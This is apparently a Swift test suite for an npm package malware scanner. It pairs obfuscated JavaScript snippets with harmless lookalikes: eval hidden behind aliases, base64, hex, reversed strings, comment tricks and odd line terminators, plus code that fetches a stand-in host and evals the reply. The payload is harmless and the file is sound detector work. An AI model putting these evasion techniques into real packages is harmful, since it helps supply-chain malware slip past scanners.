import Cryptography
import Screening
import TestSupport
import Testing

@testable import Analyzers

/// A way to hide what a script does, and an honest script that looks like it.
struct Evasion: Sendable, CustomTestStringConvertible {
    let testDescription: String
    /// The severity that the hiding script has at least, in code that is loaded.
    let severity: Severity
    let hostile: String
    let benign: String
    /// Other files of the package, by their paths.
    let files: [String: String]

    init(
        _ description: String, _ severity: Severity = .malicious, hostile: String, benign: String,
        files: [String: String] = [:]
    ) {
        testDescription = description
        self.severity = severity
        self.hostile = hostile
        self.benign = benign
        self.files = files
    }

    /// Judges both as files of a package.
    func check(_ report: (String, [String: String]) throws -> AnalysisReport) throws {
        let found = try report(hostile, files).findings
        #expect(found.map(\.finding.severity).max() ?? .info >= severity, "\(found.map(\.finding.evidence))")
        let harmless = try report(benign, files)
        let held = harmless.findings.filter { $0.finding.severity != .info }
        #expect(harmless.verdict == .clean, "\(held.map(\.finding))")
    }
}

/// A harmless payload, and how it looks in base64.
private let payload = "require('child_process').exec('id acme-box')"
private let packed = Base64.encode(Array(payload.utf8))
private let reversed = String(packed.reversed())
private let hex = payload.utf8.map { String($0 >> 4, radix: 16) + String($0 & 15, radix: 16) }.joined()
private let codes = payload.utf8.map { String($0) }.joined(separator: ",")
private let decode = "Buffer.from('\(packed)', 'base64').toString()"
private let twice = Base64.encode(Array(packed.utf8))
private let longLine = String(repeating: "a = a + 1; ", count: 190_000)

private let scriptEvasions: [Evasion] = [
    Evasion(
        "a comment opener inside a string", hostile: "const g = 'src/**/*.js'; eval(\(decode)) // */",
        benign: "const g = 'src/**/*.js'; /* eval(\(decode)) */"),
    Evasion(
        "a comment opener inside a regular expression", hostile: "const g = /[/*]/; eval(\(decode)) /* */",
        benign: "const g = /[/*]/ /* eval(\(decode)) */"),
    Evasion(
        "a quote inside a regular expression", hostile: "s.replace(/'/g, ''); eval(\(decode)); s.replace(/'/g, '')",
        benign: "s.replace(/'/g, \"'; eval(x); '\")"),
    Evasion(
        "bracket access with split strings", .suspicious, hostile: "globalThis['ev' + 'al']('1')",
        benign: "globalThis['Ar' + 'ray']('1')"),
    Evasion(
        "a template literal as a member", .suspicious, hostile: "globalThis[`${'ev'}al`]('1')",
        benign: "globalThis[`Array`]('1')"),
    Evasion(
        "a name that is reversed", .suspicious, hostile: "globalThis['lave'.split('').reverse().join('')]('1')",
        benign: "globalThis['yarrA'.split('').reverse().join('')]('1')"),
    Evasion("an alias", hostile: "const run = eval; run(\(decode))", benign: "const run = String; run(\(decode))"),
    Evasion(
        "destructuring", hostile: "const { exec: e } = require('child_process'); e(\(decode))",
        benign: "const { join: e } = require('path'); e(\(decode))"),
    Evasion(
        "escapes in a name", .malicious, hostile: "\\u0065val('1 + 1')", benign: "\\u0065scape('1 + 1')"),
    Evasion(
        "a comma operator", hostile: "(0, eval)(\(decode))", benign: "(0, String)(\(decode))"),
    Evasion(
        "the constructor of a function", hostile: "(() => {}).constructor(\(decode))()",
        benign: "[].constructor(1)"),
    Evasion(
        "Function with new", hostile: "new Function(\(decode))()", benign: "new Function('return this')()"),
    Evasion(
        "a dynamic import of text", hostile: "import('data:text/javascript;base64,\(packed)')",
        benign: "import('./other.js')", files: ["other.js": "export default 1"]),
    Evasion(
        "decoding twice", hostile: "eval(atob(atob('\(twice)')))", benign: "console.log(atob(atob('\(twice)')))"),
    Evasion(
        "hexadecimal", hostile: "eval(Buffer.from('\(hex)', 'hex').toString())",
        benign: "x = Buffer.from('6869', 'hex')"),
    Evasion(
        "a reversed text", hostile: "eval(atob('\(reversed)'.split('').reverse().join('')))",
        benign: "x = 'abc'.split('').reverse().join('')"),
    Evasion(
        "character codes", .suspicious, hostile: "eval(String.fromCharCode(\(codes)))",
        benign: "x = String.fromCharCode(65, 66)"),
    Evasion(
        "through a variable and a function",
        hostile: "function d(x) { return atob(x) }\nconst c = d('\(packed)');\nFunction(c)()",
        benign: "function d(x) { return atob(x) }\nconst c = d('\(packed)');\nconsole.log(c)"),
    Evasion(
        "a payload in a data file",
        hostile: "eval(Buffer.from(require('fs').readFileSync(__dirname + '/data.bin', 'utf8'), 'base64').toString())",
        benign: "x = require('fs').readFileSync(__dirname + '/data.bin', 'utf8')", files: ["data.bin": packed]),
    Evasion(
        "code in a file that says it is text", .suspicious,
        hostile: "require('vm').runInThisContext(require('fs').readFileSync('./words.txt', 'utf8'))",
        benign: "x = require('fs').readFileSync('./words.txt', 'utf8')",
        files: ["words.txt": "const a = require('os');\nmodule.exports = function () { return a }\n"]),
    Evasion(
        "a module's name in pieces", .suspicious, hostile: "require('child_' + 'process').exec('id')",
        benign: "require('./a' + '.js')", files: ["a.js": "1"]),
    Evasion(
        "lines that end with CR only", hostile: "// a comment\reval(\(decode))\r", benign: "// eval(\(decode))\n1\n"),
    Evasion(
        "lines that end with CR LF", hostile: "// a comment\r\neval(\(decode))\r\n", benign: "// eval(\(decode))\r\n"),
    Evasion(
        "a line separator of Unicode", hostile: "// a comment\u{2028}eval(\(decode))",
        benign: "'\u{2028}'; // eval(\(decode))"),
    Evasion("a byte order mark", hostile: "\u{FEFF}eval(\(decode))", benign: "\u{FEFF}console.log(1)"),
    Evasion("a hashbang", hostile: "#!/usr/bin/env node\neval(\(decode))", benign: "#!/usr/bin/env node\n1"),
    Evasion("a comment of HTML", hostile: "1 <!-- x\n;eval(\(decode))", benign: "<!-- eval(\(decode))\n1"),
    Evasion("a line of 2 MB", hostile: "\(longLine)eval(\(decode))", benign: String(longLine.prefix(66_000))),
    Evasion(
        "the network into eval",
        hostile: """
            require('https').get('https://x.example/a', r => {
              let body = ''
              r.on('data', d => { body += d })
              r.on('end', () => { eval(body) })
            })
            """,
        benign: """
            require('https').get('https://x.example/a', r => {
              let body = ''
              r.on('data', d => { body += d })
              r.on('end', () => { JSON.parse(body) })
            })
            """),
    Evasion(
        "awaited answers", hostile: "const t = await (await fetch('https://x.example/a')).text(); new Function(t)()",
        benign: "const t = await (await fetch('https://x.example/a')).text(); console.log(t)"),
    Evasion(
        "code inside of code", hostile: "eval(\"eval(Buffer.from('\(packed)', 'base64').toString())\")",
        benign: "eval('1 + 1')"),
]

@Suite("Scripts that hide what they do")
struct ScriptEvasionTests {
    private func report(_ code: String, _ files: [String: String]) throws -> AnalysisReport {
        try npmCode(code) { tar in
            for (path, text) in files.sorted(by: { $0.key < $1.key }) { tar.addFile("package/\(path)", text) }
        }.report()
    }

    @Test("hiding does not help, and what looks alike is clean", arguments: scriptEvasions)
    func evasion(_ evasion: Evasion) throws {
        try evasion.check(report)
    }

    @Test("UTF-16 is read like UTF-8")
    func wide() throws {
        let code = "eval(\(decode))"
        var bytes: [UInt8] = [0xFF, 0xFE]
        for unit in code.utf16 { bytes += [UInt8(truncatingIfNeeded: unit), UInt8(truncatingIfNeeded: unit >> 8)] }
        let artifact = try npmTarball { $0.add(.init("package/index.js", content: bytes)) }
        #expect(artifact.observations().contains("decoded-code-runs"))
    }

    @Test("a thousand small files hide no other")
    func manyFiles() throws {
        let artifact = try npmTarball { tar in
            for index in 0..<1000 { tar.addFile("package/lib/f\(index).js", "module.exports = \(index)\n") }
            tar.addFile("package/lib/f777/index.js", "eval(\(decode))\n")
        }
        #expect(artifact.report().verdict == .malicious)
    }

    @Test("a command of binding.gyp leads to what it runs")
    func gyp() throws {
        let manifest =
            #"{"targets": [{"target_name": "box", "sources": ["src/box.cc"], "x": ["<!(node tools/run.js)"]}]}"#
        let artifact = try npmTarball { tar in
            tar.addFile("package/binding.gyp", manifest)
            tar.addFile("package/src/box.cc", "int box;")
            tar.addFile("package/tools/run.js", "module.exports = require('https').get('https://x.example')\n")
        }
        #expect(artifact.report().findings.contains { $0.finding.evidence == "network-at-install@install" })
    }
}
